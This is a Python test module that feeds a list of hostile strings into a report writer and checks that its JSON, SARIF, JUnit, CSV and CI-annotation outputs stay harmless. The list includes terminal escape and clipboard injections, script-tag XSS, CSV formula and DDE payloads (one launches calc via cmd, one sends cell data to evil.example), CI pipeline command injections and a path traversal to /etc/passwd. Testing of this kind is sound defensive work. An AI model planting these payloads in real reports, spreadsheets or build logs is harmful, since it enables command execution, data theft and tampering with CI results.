"""Texts that were made to harm who reads a report, and what each form must never hold."""

from __future__ import annotations

import csv
import io
import json
import re
from collections import Counter
from xml.etree import ElementTree as ET

from tests.sarif_world import messages, obeyed

HOSTILE = {
    "title": "\x1b]0;PWNED\x07",
    "clipboard": "\x1b]52;c;UFdORUQ=\x07",
    "colour": "\x1b[31mRED\x1b[0m",
    "c1": "\x9b31mC1\x90q\x9c",
    "overwrite": "clean\rGONE",
    "nul": "a\x00b\x7fc",
    "bidi": "abc\u202egpj.exe\u2066x\u2069",
    "zero-width": "a\u200bb\ufeffc\u00add",
    "separators": "a\u2028b\u2029c\u0085d\x0be\x0cf",
    "surrogate": "a\ud800b",
    "script": "</script><script>alert(1)</script>",
    "attribute": "\"' onfocus='alert(1)",
    "comment": "--><!--<script>",
    "cdata": "]]><x/>&lol;",
    "processing": '<?xml version="1.1"?><!DOCTYPE x [<!ENTITY a "b">]>',
    "markup": "[@click=app.quit]x[/]",
    "link": "[see](http://evil.example)",
    "image": "![x](http://evil.example/b.png)",
    "reference": "[x]: http://evil.example",
    "autolink": "<http://evil.example>",
    "fence": "```\nfree\n```",
    "code": "`a` ``b`` `",
    "row": "| a | b |\n|---|---|",
    "mention": "@octocat #1 GH-1",
    "placeholder": "{0} {1} {{0}} {",
    "backslashes": "\\\\[x\\](y)\\",
    "formula": "=1+1",
    "command": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "sum": "@SUM(1+1)*cmd",
    "tab": "\t=1+1",
    "hyperlink": '=HYPERLINK("http://evil.example?"&A1,"x")',
    "quote-break": 'x"\r\n=1+1,"',
    "semicolon": 'a;=1+1;"=1"',
    "wide": "＝1+1",
    "mark": "\u200f=1+1",
    "github": "\n::error file=x,line=1::y",
    "github-mask": "::add-mask::x",
    "github-stop": "  ::stop-commands::x",
    "github-old": "##[error]x",
    "github-more": "###[error]x:::error::y",
    "azure": "##vso[task.setvariable variable=x]y",
    "teamcity": "##teamcity[buildStatus status='SUCCESS']",
    "gitlab": "section_start:1:x[collapsed=true]\r\x1b[0Kx",
    "travis": "travis_fold:start:x\r\x1b[0K",
    "buildkite": "\n--- x\n+++ y\n^^^ +++",
    "percent": "%0A::error::x%0D%25",
    "property": "a,line=9::b",
    "json": '"}],"x":[{"',
    "above": "../../../../etc/passwd",
    "home": "/home/olga/x",
    "long": "=" * 3000,
}

CONTROL = re.compile(
    "[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u00ad\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff\ud800-\udfff]"
)
"""What no report holds; LF ends lines, CR only with it."""
COMMANDS = re.compile(
    r"^\s*::[\w-]+(?: [^\n]*)?::"  # GitHub Actions
    r"|##\[|##vso\[|##teamcity\["  # its older form, Azure, TeamCity
    r"|section_(?:start|end):\d+:[^\n]*\r\x1b"  # GitLab
    r"|travis_(?:fold|time):[^\n]*\r\x1b"  # Travis
    r"|^(?:---|\+\+\+|~~~|\^\^\^ \+\+\+)(?: |$)",  # Buildkite
    re.MULTILINE,
)
_TRIGGER = re.compile('[\\s\ufeff\u200f"]*[=+\\-@\t\r\0＝＋－＠]')
_OURS = re.compile(r"::(error|warning|notice) ((?:(?:file|line|title)=[^,:\n\r]*,?)+)::([^\n\r]*)")


def check(form: str, text: str) -> None:
    """Check that a report can do no harm, and that it can be read back."""
    assert CONTROL.search(text) is None
    assert "\r" not in (text.replace("\r\n", "") if form == "csv" else text)
    if form != "github":  # which is read command by command
        assert COMMANDS.search(text) is None
    CHECKS.get(form, lambda _: None)(text)


def strict(text: str) -> object:
    """Read JSON as RFC 8259 has it: no NaN, no key twice."""

    def members(pairs):
        assert len(pairs) == len({key for key, _ in pairs})
        return dict(pairs)

    def refused(word):
        raise AssertionError(word)

    return json.loads(text, object_pairs_hook=members, parse_constant=refused)


def _json(text: str) -> None:
    assert text.isascii()
    assert not set("<>&") & set(text)
    assert "::" not in text
    assert "##" not in text
    strict(text)


def _jsonl(text: str) -> None:
    *findings, last = [strict(line) for line in text.splitlines()]
    assert text.isascii()
    assert not set("<>&") & set(text)
    assert ["summary"] == [*last]
    assert 1 >= len({tuple(one) for one in findings})


def _sarif(text: str) -> None:
    _json(text)
    document = strict(text)
    assert [] == [bad for one in messages(document) for bad in obeyed(one)]
    uris = [place["location"]["uri"] for place in document["runs"][0]["artifacts"]]
    assert [] == [
        uri for uri in uris if not re.fullmatch(r"(?!/)(?:[\w.~/-]|%[0-9A-F]{2})+", uri, re.ASCII)
    ]
    assert [] == [uri for uri in uris if ".." in uri.split("/")]


def _gitlab(text: str) -> None:
    _json(text)
    for issue in strict(text):
        assert not issue["location"]["path"].startswith(("/", "../"))


def _junit(text: str) -> None:
    root = ET.fromstring(text)  # noqa: S314  # what is tested
    known = {"testsuites", "testsuite", "testcase", "failure", "error", "skipped", "system-out"}
    assert Counter(one.tag for one in root.iter()).keys() <= known
    assert {name for one in root.iter() for name in one.attrib} <= {
        "name", "tests", "failures", "errors", "skipped", "time", "classname", "message", "type",
    }  # fmt: skip
    starts = ("violation", "review", "note", "and ")
    told = [line for one in root.iter("system-out") for line in one.text.strip().split("\n")]
    assert [] == [line for line in told if not line.startswith(starts)]


def _csv(text: str) -> None:
    for delimiter in ",;":
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
        assert [] == [cell for row in rows for cell in row if _TRIGGER.match(cell)]
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert 1 == len({len(row) for row in rows})


def _github(text: str) -> None:
    *commands, last = text.splitlines()
    assert last.startswith("telemetry-inspector ")
    assert COMMANDS.search(last) is None
    for line in commands:
        kind, named, message = _OURS.fullmatch(line).groups()
        names = [pair.partition("=")[0] for pair in named.split(",")]
        assert len(names) == len(set(names))
        assert "title" in names
        assert "::" not in message
        assert "##" not in line
        assert re.search(r"%(?!25|0A|0D|3A|2C)", line) is None
        assert kind in {"error", "warning", "notice"}


CHECKS = {
    "json": _json, "jsonl": _jsonl, "sarif": _sarif, "gitlab": _gitlab, "junit": _junit, "csv": _csv,
    "github": _github,
}  # fmt: skip
